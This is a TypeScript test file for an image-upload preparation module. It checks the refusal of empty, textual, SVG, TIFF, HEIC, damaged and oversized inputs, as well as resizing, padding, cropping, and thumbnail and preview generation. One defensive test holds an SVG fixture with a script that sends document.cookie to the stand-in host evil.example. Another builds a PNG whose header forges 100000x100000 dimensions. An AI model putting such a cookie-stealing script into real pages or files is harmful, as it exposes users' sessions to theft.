// Inputs made on the spot: empty, text, SVG with a script, 1x1, a forged 100000x100000
// header, noise over the byte limit, odd shapes, damaged JPEGs, formats we refuse.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { isImageError, type ImageErrorCode } from '../../src/imaging/imageErrors';
import { prepareInputImage } from '../../src/imaging/prepareInputImage';
import { loadSharp, openImage } from '../../src/imaging/sharpSafety';
import { makeThumbnail, makeThumbnailFromPreview } from '../../src/imaging/thumbnail';
import { verifyImage } from '../../src/imaging/verifyImage';
import { DALLE2_EDIT, DALLE2_VARIATION, GPT_EDIT, MiB } from './imagingTargets';


/** An image from raw pixels, encoded by sharp (no file involved). */
function encode(raw: Buffer, width: number, height: number, channels: 3 | 4) {
  return openImage(raw, { raw: { width, height, channels } });
}

/** A smooth RGB gradient, photo-like for compression purposes. */
function gradient(width: number, height: number): Buffer {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      raw[i] = (x * 255) / width;
      raw[i + 1] = (y * 255) / height;
      raw[i + 2] = 128;
    }
  }
  return raw;
}

async function refuses(bytes: Uint8Array, name: string, code: ImageErrorCode, message: string | RegExp, target = GPT_EDIT) {
  await assert.rejects(prepareInputImage(bytes, name, target), (error) => {
    assert.ok(isImageError(error, code), `expected ${code}, got ${String(error)}`);
    if (typeof message === 'string') assert.equal(error.message, message);
    else assert.match(error.message, message);
    return true;
  });
}

/** A PNG chunk with a correct CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

test('zero bytes: "empty", before anything is decoded', async () => {
  await refuses(new Uint8Array(0), 'blank.png', 'empty', 'blank.png is empty (0 bytes). Pick the file again or re-export it.');
  await assert.rejects(verifyImage(Buffer.alloc(0)), (e) => isImageError(e, 'empty'));
});

test('a text file named .png is "not an image", and says it is text', async () => {
  await refuses(
    Buffer.from('# Notes\nThis is not a picture.\n'),
    'C:\\Users\\me\\notes.png',
    'notAnImage',
    'notes.png is not an image: it contains text. Pick a PNG, JPEG, WebP, GIF or AVIF file.',
  );
  await refuses(randomBytes(4096).fill(0, 0, 1), 'noise.png', 'notAnImage', /^noise\.png is not an image Image Studio can read\./);
});

test('SVG (with a script) named .png is refused as SVG, and libvips could not open it anyway', async () => {
  const svg = Buffer.from(
    '\uFEFF<?xml version="1.0"?>\n<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">' +
      '<script>fetch("https://evil.example/?" + document.cookie)</script><rect width="64" height="64"/></svg>',
  );
  await refuses(
    svg,
    'logo.png',
    'unsupportedFormat',
    'logo.png is an SVG drawing. SVG files can carry scripts and links to other files, so Image Studio does not open them. Export it as PNG and try again.',
  );
  // Defence in depth: the SVG loader is blocked process-wide, so even code that skips our
  // sniffing gets "unsupported" instead of a parsed document.
  await assert.rejects(openImage(svg).metadata(), /unsupported image format/);
});

test('formats we do not accept are named: TIFF, HEIC', async () => {
  const tiff = await loadSharp()({ create: { width: 32, height: 32, channels: 3, background: '#336699' } }).tiff().toBuffer();
  await refuses(tiff, 'scan.tif', 'unsupportedFormat', 'scan.tif is a TIFF file, which Image Studio does not accept. Convert it to PNG or JPEG and try again.');
  const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(64)]);
  await refuses(heic, 'IMG_0001.HEIC', 'unsupportedFormat', /^IMG_0001\.HEIC is a HEIC file/);
});

test('AVIF is accepted and converted', async () => {
  const avif = await encode(gradient(64, 48), 64, 48, 3).avif().toBuffer();
  const p = await prepareInputImage(avif, 'photo.avif', GPT_EDIT);
  assert.deepEqual([p.format, p.width, p.height, p.fileName], ['png', 64, 48, 'photo.png']);
  assert.deepEqual(p.steps, ['converted AVIF → PNG']);
});

test('a 1x1 PNG is too small, with a message that says what to pick instead', async () => {
  const png = await encode(Buffer.from([255, 0, 0]), 1, 1, 3).png().toBuffer();
  await refuses(png, 'pixel.png', 'tooSmall', 'pixel.png is only 1x1 pixels, too small to edit. Pick an image at least 16 pixels across.', DALLE2_EDIT);
});

test('a PNG whose IHDR claims 100000x100000 is refused from the header alone', async () => {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(100_000, 0);
  ihdr.writeUInt32BE(100_000, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 6; // RGBA
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(4096))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  const before = process.memoryUsage().rss;
  const start = performance.now();
  await refuses(
    png,
    'forged.png',
    'tooManyPixels',
    'forged.png is 100000x100000 pixels (10,000 megapixels), more than the 100-megapixel limit. Downscale it in an image editor and try again.',
  );
  await assert.rejects(verifyImage(png, 'forged.png'), (e) => isImageError(e, 'tooManyPixels'));
  // 40 GB if decoded; a header read costs nothing measurable.
  assert.ok(performance.now() - start < 1000);
  assert.ok(process.memoryUsage().rss - before < 20e6);
});

test('a 4.5 MB noise PNG fits the 4 MB dall-e-2 limit; RGBA noise forces a shrink, never an overshoot', async () => {
  const rgb = await encode(randomBytes(1230 * 1230 * 3), 1230, 1230, 3).png().toBuffer();
  assert.ok(rgb.length > 4.3 * MiB, `noise PNG is only ${rgb.length} bytes`);
  const variation = await prepareInputImage(rgb, 'noise.png', DALLE2_VARIATION);
  assert.ok(variation.bytes.length <= 4 * MiB);
  assert.deepEqual([variation.width, variation.height], [1024, 1024]);
  assert.deepEqual(variation.steps.slice(0, 1), ['downscaled 1230x1230 → 1024x1024']);

  // RGBA noise cannot compress: 1024x1024x4 is already 4 MiB before PNG overhead.
  const rgba = await encode(randomBytes(1024 * 1024 * 4), 1024, 1024, 4).png().toBuffer();
  assert.ok(rgba.length > 4 * MiB);
  const edit = await prepareInputImage(rgba, 'noise-rgba.png', DALLE2_EDIT);
  assert.ok(edit.bytes.length <= 4 * MiB, `${edit.bytes.length} bytes`);
  assert.equal(edit.width, edit.height);
  assert.ok(edit.width < 1024 && edit.width >= 900, `shrunk to ${edit.width}`);
  assert.equal(edit.steps[0], `downscaled 1024x1024 → ${edit.width}x${edit.width} to fit 4 MB`);
  assert.match(edit.steps[1], /^compressed 4 MB → [34](\.\d)? MB$/);
  const meta = await openImage(edit.bytes).metadata();
  assert.deepEqual([meta.channels, meta.isPalette], [4, false]);
});

test('a byte limit nothing can meet is "cannotFit", not an oversized upload', async () => {
  const png = await encode(randomBytes(300 * 300 * 3), 300, 300, 3).png().toBuffer();
  await refuses(png, 'busy.png', 'cannotFit', /^busy\.png could not be made smaller than 10 KB \(still \d+ KB at \d+x\d+\)\. Try a simpler or smaller image\.$/, {
    ...DALLE2_VARIATION,
    maxBytes: 10 * 1024,
  });
});

test('non-square PNG for a square endpoint: padded (transparent or edge) or centre-cropped', async () => {
  // Left half red, right half blue, 300x200.
  const raw = Buffer.alloc(300 * 200 * 3);
  for (let i = 0; i < 300 * 200; i++) raw.set((i % 300) < 150 ? [255, 0, 0] : [0, 0, 255], i * 3);
  const png = await encode(raw, 300, 200, 3).png().toBuffer();
  const pixel = async (bytes: Buffer, x: number, y: number) => {
    const { data, info } = await openImage(bytes).raw().toBuffer({ resolveWithObject: true });
    return [...data.subarray((y * info.width + x) * info.channels, (y * info.width + x + 1) * info.channels)];
  };

  const padded = await prepareInputImage(png, 'flag.png', DALLE2_VARIATION);
  assert.deepEqual([padded.width, padded.height], [300, 300]);
  assert.deepEqual(padded.steps, ['padded 300x200 → 300x300 (transparent)']);
  assert.deepEqual(await pixel(padded.bytes, 10, 10), [0, 0, 0, 0]);
  assert.deepEqual(await pixel(padded.bytes, 10, 150), [255, 0, 0, 255]);

  const edge = await prepareInputImage(png, 'flag.png', { ...DALLE2_VARIATION, padColor: 'edge' });
  assert.deepEqual(edge.steps, ['padded 300x200 → 300x300 (edge colour)']);
  assert.deepEqual(await pixel(edge.bytes, 10, 10), [255, 0, 0]); // no alpha needed, none added
  assert.deepEqual(await pixel(edge.bytes, 290, 290), [0, 0, 255]);

  // The centre 200x200 (x 50..249) is under minSide 256, so it is enlarged x2 to 400x400.
  const cropped = await prepareInputImage(png, 'flag.png', { ...DALLE2_VARIATION, squareMode: 'crop' });
  assert.deepEqual([cropped.width, cropped.height], [400, 400]);
  assert.deepEqual(cropped.steps, [
    'cropped 300x200 → 200x200 (centre)',
    'enlarged 200x200 → 400x400 (×2, nearest neighbour)',
  ]);
  assert.deepEqual(await pixel(cropped.bytes, 199, 10), [255, 0, 0]);
  assert.deepEqual(await pixel(cropped.bytes, 200, 10), [0, 0, 255]);
});

test('small images are enlarged by whole factors with nearest neighbour (crisp, nothing invented)', async () => {
  const raw = Buffer.alloc(20 * 20 * 3);
  for (let i = 0; i < 400; i++) raw.set(((i % 20) + Math.floor(i / 20)) % 2 ? [255, 255, 255] : [0, 0, 0], i * 3);
  const png = await encode(raw, 20, 20, 3).png().toBuffer();
  const p = await prepareInputImage(png, 'checker.png', DALLE2_EDIT);
  assert.deepEqual([p.width, p.height], [260, 260]);
  assert.deepEqual(p.steps, ['enlarged 20x20 → 260x260 (×13, nearest neighbour)', 'added an alpha channel']);
  const { data } = await openImage(p.bytes).raw().toBuffer({ resolveWithObject: true });
  const values = new Set<number>();
  for (let i = 0; i < data.length; i += 4) values.add(data[i]);
  assert.deepEqual([...values].sort((a, b) => a - b), [0, 255]);
});

test('GPT aspect limit: a 4:1 panorama is downscaled to 3840 wide and padded to 3:1', async () => {
  const jpeg = await encode(gradient(4000, 1000), 4000, 1000, 3).jpeg().toBuffer();
  const p = await prepareInputImage(jpeg, 'pano.jpg', GPT_EDIT);
  assert.deepEqual([p.format, p.width, p.height], ['png', 3840, 1280]);
  assert.deepEqual(p.steps, [
    'converted JPEG → PNG',
    'downscaled 4000x1000 → 3840x960',
    'padded 3840x960 → 3840x1280 (transparent, aspect ratio limit)',
  ]);
  const crop = await prepareInputImage(jpeg, 'pano.jpg', { ...GPT_EDIT, squareMode: 'crop' });
  assert.deepEqual([crop.format, crop.width, crop.height], ['jpeg', 3000, 1000]);
});

test('JPEG-only endpoint: transparency is flattened onto white, with a warning', async () => {
  const raw = Buffer.alloc(32 * 32 * 4);
  for (let i = 0; i < 32 * 32; i++) raw.set(i < 512 ? [255, 0, 0, 0] : [0, 0, 255, 255], i * 4);
  const png = await encode(raw, 32, 32, 4).png().toBuffer();
  const p = await prepareInputImage(png, 'half.png', { formats: ['jpeg'], maxBytes: MiB, square: false });
  assert.equal(p.format, 'jpeg');
  assert.deepEqual(p.warnings, ['transparent areas were filled with white (JPEG has no transparency)']);
  const { data } = await openImage(p.bytes).raw().toBuffer({ resolveWithObject: true });
  assert.ok(data[0] > 245 && data[1] > 245 && data[2] > 245, `top-left should be white: ${data.subarray(0, 3).join()}`);
});

test('damaged JPEGs are refused by prepare and verify: cut off, or broken entropy data', async () => {
  const jpeg = await encode(gradient(256, 256), 256, 256, 3).jpeg({ quality: 95 }).toBuffer();
  const cut = jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
  const ends = 'photo.jpg looks damaged (the file ends early). Re-export it and try again.';
  await refuses(cut, 'photo.jpg', 'damaged', ends);
  await assert.rejects(verifyImage(cut, 'photo.jpg'), { message: ends });

  const corrupt = Buffer.from(jpeg);
  for (let i = Math.floor(jpeg.length / 2); i < Math.floor(jpeg.length / 2) + 200; i++) corrupt[i] ^= 0x5a;
  const bad = 'photo.jpg looks damaged (its image data is corrupt). Re-export it and try again.';
  await refuses(corrupt, 'photo.jpg', 'damaged', bad);
  await assert.rejects(verifyImage(corrupt, 'photo.jpg'), { message: bad });

  // Harmless and common in camera files: junk between the data and the end marker.
  const padded = Buffer.concat([jpeg.subarray(0, -2), Buffer.from([0x12, 0x34, 0x56, 0x78]), jpeg.subarray(-2)]);
  assert.equal((await prepareInputImage(padded, 'photo.jpg', GPT_EDIT)).width, 256);
});

test('verifyImage: a 1024x1024 PNG is checked fully; a cut-off response is caught', async () => {
  const png = await encode(gradient(1024, 1024), 1024, 1024, 3).png().toBuffer();
  const v = await verifyImage(png);
  assert.deepEqual(v, { format: 'png', width: 1024, height: 1024, hasAlpha: false, channels: 3, bytes: png.length, frames: 1 });
  // How fast is measured by `npm run bench` (section 3), not here.

  await assert.rejects(verifyImage(png.subarray(0, png.length - 5000)), {
    message: 'The generated image looks damaged (the file ends early). Re-export it and try again.',
  });
});

test('verifyImage with thumbnail: the studio thumbnail comes from the same decode, upright, and damage is still caught', async () => {
  // Stored 400x200 with EXIF orientation 6: upright it is 200x400, so the thumbnail is 128x256.
  const jpeg = await encode(gradient(400, 200), 400, 200, 3).withMetadata({ orientation: 6 }).jpeg({ quality: 90 }).toBuffer();
  const verified = await verifyImage(jpeg, 'result.jpg', { thumbnail: true });
  assert.ok(verified.thumbnail, 'a thumbnail');
  const meta = await loadSharp()(verified.thumbnail).metadata();
  assert.deepEqual([meta.format, meta.width, meta.height], ['webp', 128, 256]);
  assert.deepEqual(await loadSharp()(await makeThumbnail(jpeg)).metadata().then((m) => [m.width, m.height]), [128, 256], 'the same as makeThumbnail');
  assert.equal((await verifyImage(jpeg, 'result.jpg')).thumbnail, undefined, 'only when asked');

  // Small images are not enlarged; transparency is kept.
  const rgba = Buffer.alloc(40 * 30 * 4, 0);
  const small = await encode(rgba, 40, 30, 4).png().toBuffer();
  const smallThumb = await loadSharp()((await verifyImage(small, 'a.png', { thumbnail: true })).thumbnail!).metadata();
  assert.deepEqual([smallThumb.width, smallThumb.height, smallThumb.hasAlpha], [40, 30, true]);

  const png = await encode(gradient(512, 512), 512, 512, 3).png().toBuffer();
  await assert.rejects(verifyImage(png.subarray(0, png.length - 3000), undefined, { thumbnail: true }), {
    message: 'The generated image looks damaged (the file ends early). Re-export it and try again.',
  });
  const cut = jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
  await assert.rejects(verifyImage(cut, 'result.jpg', { thumbnail: true }), {
    message: 'result.jpg looks damaged (the file ends early). Re-export it and try again.',
  });
});

test('verifyImage with previewEdge: the preview and the thumbnail come from one decode, upright; damage is still caught', async () => {
  // Stored 1536x1024 with EXIF orientation 6: upright 1024x1536, so the 512 px preview is 341x512.
  const jpeg = await encode(gradient(1536, 1024), 1536, 1024, 3).withMetadata({ orientation: 6 }).jpeg({ quality: 90 }).toBuffer();
  const verified = await verifyImage(jpeg, 'result.jpg', { thumbnail: true, previewEdge: 512 });
  const sizes = async (bytes: Buffer | undefined) => {
    assert.ok(bytes);
    const meta = await loadSharp()(bytes).metadata();
    return [meta.format, meta.width, meta.height];
  };
  assert.deepEqual(await sizes(verified.preview), ['webp', 341, 512]);
  assert.deepEqual(await sizes(verified.thumbnail), ['webp', 171, 256]);
  // The same picture as a preview made on its own (mean difference of small copies).
  const alone = await makeThumbnail(jpeg, 512);
  const small = (bytes: Uint8Array) => loadSharp()(bytes).resize(32, 32, { fit: 'fill' }).raw().toBuffer();
  const [a, b] = [await small(verified.preview!), await small(alone)];
  const difference = a.reduce((sum, value, index) => sum + Math.abs(value - b[index]), 0) / a.length;
  assert.ok(difference < 2, `mean difference ${difference}`);
  assert.equal((await verifyImage(jpeg, 'result.jpg', { thumbnail: true })).preview, undefined, 'only when asked');

  // Without the thumbnail, smaller than the thumbnail, grey, 16-bit with alpha: sizes and transparency kept.
  const onlyPreview = await verifyImage(jpeg, 'result.jpg', { previewEdge: 128 });
  assert.deepEqual([await sizes(onlyPreview.preview), onlyPreview.thumbnail], [['webp', 85, 128], undefined]);
  const small128 = await verifyImage(jpeg, 'result.jpg', { thumbnail: true, previewEdge: 128 });
  assert.deepEqual(await sizes(small128.thumbnail), ['webp', 171, 256]);
  const grey16 = await loadSharp()({ create: { width: 600, height: 300, channels: 4, background: { r: 200, g: 200, b: 200, alpha: 0.5 } } })
    .toColourspace('grey16')
    .png()
    .toBuffer();
  const fromGrey = await verifyImage(grey16, 'grey.png', { thumbnail: true, previewEdge: 512 });
  const greyMeta = await loadSharp()(fromGrey.preview!).stats();
  assert.ok(Math.abs(greyMeta.channels[0].mean - 200) < 3, `grey kept: ${greyMeta.channels[0].mean}`);
  assert.equal((await loadSharp()(fromGrey.preview!).metadata()).hasAlpha, true);
  // The preview alone (an agent's call: one pipeline straight to WebP) keeps them too.
  const greyAlone = await verifyImage(grey16, 'grey.png', { previewEdge: 512 });
  assert.ok(Math.abs((await loadSharp()(greyAlone.preview!).stats()).channels[0].mean - 200) < 3, 'grey kept alone');
  assert.deepEqual([(await loadSharp()(greyAlone.preview!).metadata()).hasAlpha, greyAlone.thumbnail], [true, undefined]);

  // The studio's thumbnail made later from the preview: the image's own thumbnail size and the same picture.
  const fromPreview = await makeThumbnailFromPreview(verified.preview!, { width: 1536, height: 1024 });
  assert.deepEqual(await sizes(Buffer.from(fromPreview)), ['webp', 171, 256], 'upright, as the image\'s own thumbnail');
  const [c, d] = [await small(fromPreview), await small(verified.thumbnail!)];
  const fromPreviewDifference = c.reduce((sum, value, index) => sum + Math.abs(value - d[index]), 0) / c.length;
  assert.ok(fromPreviewDifference < 2, `mean difference ${fromPreviewDifference}`);
  const wide = await encode(gradient(1536, 1024), 1536, 1024, 3).webp().toBuffer();
  const widePreview = await makeThumbnail(wide, 512);
  assert.deepEqual(await sizes(Buffer.from(widePreview)), ['webp', 512, 341]);
  assert.deepEqual(await sizes(Buffer.from(await makeThumbnailFromPreview(widePreview, { width: 1536, height: 1024 }))), ['webp', 256, 171], 'not the preview\'s 256x170');
  const tiny = await encode(gradient(200, 100), 200, 100, 3).webp().toBuffer();
  assert.deepEqual(await sizes(Buffer.from(await makeThumbnailFromPreview(tiny, { width: 200, height: 100 }))), ['webp', 200, 100], 'never enlarged');

  const png = await encode(gradient(1024, 1024), 1024, 1024, 3).png().toBuffer();
  for (const options of [{ thumbnail: true, previewEdge: 512 }, { previewEdge: 512 }]) {
    await assert.rejects(verifyImage(png.subarray(0, png.length - 3000), undefined, options), {
      message: 'The generated image looks damaged (the file ends early). Re-export it and try again.',
    });
  }
});
